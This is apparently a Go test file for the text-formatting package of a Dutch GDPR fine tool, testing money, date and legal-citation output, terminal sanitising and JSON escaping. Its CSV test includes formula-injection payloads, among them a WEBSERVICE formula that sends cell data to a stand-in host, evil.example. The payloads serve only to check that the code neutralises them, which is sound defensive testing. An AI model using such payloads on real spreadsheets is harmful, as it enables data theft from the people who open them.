package words_test

import (
	"encoding/json"
	"testing"
	"time"

	"github.com/boete/boete"
	"github.com/boete/boete/category"
	"github.com/boete/boete/fine/words"
	"github.com/stretchr/testify/require"
)

func TestMoneyIsWrittenAsPeopleReadIt(t *testing.T) {
	for _, test := range []struct {
		amount boete.EUR
		nl, en string
	}{
		{boete.Euros(787_500), "€ 787.500", "€787,500"},
		{boete.Euros(0), "€ 0", "€0"},
		{boete.Euros(999), "€ 999", "€999"},
		{boete.Cents(1), "€ 0,01", "€0.01"},
		{boete.Cents(54_600_50), "€ 54.600,50", "€54,600.50"},
		{boete.Euros(1_190_000_000), "€ 1.190.000.000", "€1,190,000,000"},
		{boete.Euros(-50_000), "−€ 50.000", "−€50,000"},
	} {
		require.Equal(t, test.nl, words.In(words.Dutch).Money(test.amount))
		require.Equal(t, test.en, words.In(words.English).Money(test.amount))
	}
}

func TestDatesAndProvisionsAreWrittenAsLawyersDo(t *testing.T) {
	nl, en := words.In(words.Dutch), words.In(words.English)
	day := boete.NewDate(2022, time.April, 7)
	require.Equal(t, "7 april 2022", nl.Date(day))
	require.Equal(t, "7 April 2022", en.Date(day))
	for _, test := range []struct{ text, nl, en string }{
		{"AVG 33(1)", "art. 33, eerste lid, AVG", "Article 33(1) GDPR"},
		{"AVG 5(1)(a)", "art. 5, eerste lid, onder a, AVG", "Article 5(1)(a) GDPR"},
		{"AVG 32", "art. 32 AVG", "Article 32 GDPR"},
		{"AVG 4(13)", "art. 4, lid 13, AVG", "Article 4(13) GDPR"},
		{"UAVG 46(1)", "art. 46, eerste lid, UAVG", "Article 46(1) UAVG"},
	} {
		p, err := category.ParseProvision(test.text)
		require.NoError(t, err)
		require.Equal(t, test.nl, nl.Provision(p))
		require.Equal(t, test.en, en.Provision(p))
		for _, written := range []string{test.nl, test.en} {
			again, err := category.ParseProvision(written)
			require.NoError(t, err, written)
			require.Equal(t, p, again, written)
		}
	}
}

// What the program writes, in either language, it reads back as the same amount.
func FuzzMoneyIsReadBack(f *testing.F) {
	for _, cents := range []int64{0, 1, 99, 100, 460_000_00, 787_500_00, 1_000_000_00, 10_000_000_000_000_00, -50_000_00, 123_456_78} {
		f.Add(cents)
	}
	languages := []*words.Words{words.In(words.Dutch), words.In(words.English)}
	f.Fuzz(func(t *testing.T, cents int64) {
		amount := boete.Cents(cents)
		if !amount.Bounded() {
			return
		}
		for _, words := range languages {
			text := words.Money(amount)
			again, err := boete.ParseEUR(text)
			require.NoError(t, err, text)
			require.Equal(t, amount, again, text)
		}
	})
}

func TestWhatSteersATerminalIsShownAsAReplacement(t *testing.T) {
	for text, want := range map[string]string{
		"Café B.V.":                "Café B.V.",
		"rood\x1b[31m":             "rood\uFFFD[31m",
		"een\ntwee\tdrie":          "een twee drie",
		"om\u202Egekeerd":          "om\uFFFDgekeerd",
		"C1: \u009B31m":            "C1: \uFFFD31m",
		"geen tekst \xff":          "geen tekst \uFFFD",
		"regel\u2028scheidingstek": "regel\uFFFDscheidingstek",
	} {
		require.Equal(t, want, words.Clean(text))
	}
}

func TestACellOfCSVIsNoFormula(t *testing.T) {
	for text, want := range map[string]string{
		"=1+1":      "'=1+1",
		"@SUM(A1)":  "'@SUM(A1)",
		"＝1":        "'＝1",
		"+2+5":      "'+2+5",
		"+2+5+cmd|": "'+2+5+cmd|",
		"-":         "'-",
		"+":         "'+",
		"+%":        "'+%",
		"-1/2":      "'-1/2",
		"+1e5":      "'+1e5",
		"+1.":       "'+1.",
		"+ room":    "'+ room",
		`+WEBSERVICE("https://evil.example/"&A1)+ room`: `'+WEBSERVICE("https://evil.example/"&A1)+ room`,
		"+5/9+A1 room":  "'+5/9+A1 room",
		"+5/9/1 room":   "'+5/9/1 room",
		"-1,5/9 room":   "'-1,5/9 room",
		"+5/9 room ":    "'+5/9 room ",
		"a;=1;+2+5;-3":  "a;'=1;'+2+5;-3",
		"a\t@x":         "a\t'@x",
		"+75000":        "+75000",
		"-25000.50":     "-25000.50",
		"-1.000.000,50": "-1.000.000,50",
		"-20%":          "-20%",
		"+0.5%":         "+0.5%",
		"+5/9 room":     "+5/9 room",
		"-1/9 room":     "-1/9 room",
		"-1/9 room;+2":  "-1/9 room;+2",
		"a - b":         "a - b",
		"art. 32 = 32":  "art. 32 = 32",
		"":              "",
		"2022-04-07":    "2022-04-07",
	} {
		require.Equal(t, want, words.Inert(text), text)
	}
}

func TestJSONIsPrintedAsItIs(t *testing.T) {
	data := map[string]string{"tekst": "<b> € \x1b[31m\x7f \u009b om\u202egekeerd \u2028 \U000E0001 \"x\" \u200d\u00ad 😀"}
	text, err := words.JSON(data)
	require.NoError(t, err)
	require.Equal(t, "{\n  \"tekst\": \"<b> € \\u001b[31m\\u007f \\u009b om\\u202egekeerd \\u2028 \\udb40\\udc01 \\\"x\\\" \u200d\u00ad 😀\"\n}\n", string(text))
	var back map[string]string
	require.NoError(t, json.Unmarshal(text, &back))
	require.Equal(t, data, back)
}

func TestAParagraphOfTheAwbIsWrittenAsLawyersDo(t *testing.T) {
	for place, want := range map[string][2]string{
		"art. 5:46(2)":      {"art. 5:46, tweede lid, Awb", "art. 5:46(2) Awb"},
		"art. 3:4":          {"art. 3:4 Awb", "art. 3:4 Awb"},
		"art. 3:4, 5:46(2)": {"art. 3:4, 5:46(2) Awb", "art. 3:4, 5:46(2) Awb"},
		"art. 5:46(x":       {"art. 5:46(x Awb", "art. 5:46(x Awb"},
		"art. 5:46(99)":     {"art. 5:46(99) Awb", "art. 5:46(99) Awb"},
	} {
		citation := boete.Citation{Source: "Awb", Place: place}
		require.Equal(t, want, [2]string{words.In(words.Dutch).Citation(citation), words.In(words.English).Citation(citation)})
	}
}

func TestASourceGoesByItsTitleInTheLanguage(t *testing.T) {
	for _, test := range []struct {
		citation boete.Citation
		nl, en   string
	}{
		{boete.Citation{Source: "EDPB Guidelines 04/2022"}, "EDPB-richtsnoeren 04/2022", "EDPB Guidelines 04/2022"},
		{boete.Citation{Source: "EDPB Guidelines 04/2022", Place: "art. 2"}, "EDPB-richtsnoeren 04/2022, art. 2", "EDPB Guidelines 04/2022, art. 2"},
		{boete.Citation{Source: "EDPB Guidelines 04/2022, version 2.1"}, "EDPB-richtsnoeren 04/2022, versie 2.1", "EDPB Guidelines 04/2022, version 2.1"},
		{boete.Citation{Source: "Boetebeleidsregels AP 2019", Place: "art. 2.3"}, "Boetebeleidsregels AP 2019, art. 2.3", "Boetebeleidsregels AP 2019, art. 2.3"},
		{boete.Citation{Source: "EDPB Guidelines 07/2020"}, "EDPB Guidelines 07/2020", "EDPB Guidelines 07/2020"},
	} {
		require.Equal(t, test.nl, words.In(words.Dutch).Citation(test.citation))
		require.Equal(t, test.en, words.In(words.English).Citation(test.citation))
	}
}
